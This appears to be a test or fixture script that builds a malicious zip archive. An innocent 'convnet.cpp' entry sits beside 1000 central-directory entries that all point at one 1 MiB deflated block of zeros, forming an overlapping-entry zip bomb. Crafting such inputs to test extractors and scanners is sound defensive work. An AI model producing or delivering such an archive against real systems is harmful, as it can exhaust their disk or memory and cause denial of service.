from archives import *


packed = deflated(bytes(1 << 20))
kernel = {"name": b"a.txt", "data": bytes(1 << 20), "packed": packed, "method": 8}
raw_zip([{"name": b"convnet.cpp", "data": HONEST}, kernel] +
        [{**kernel, "central_name": b"b%d.txt" % i, "offset": (1,)} for i in range(1000)])
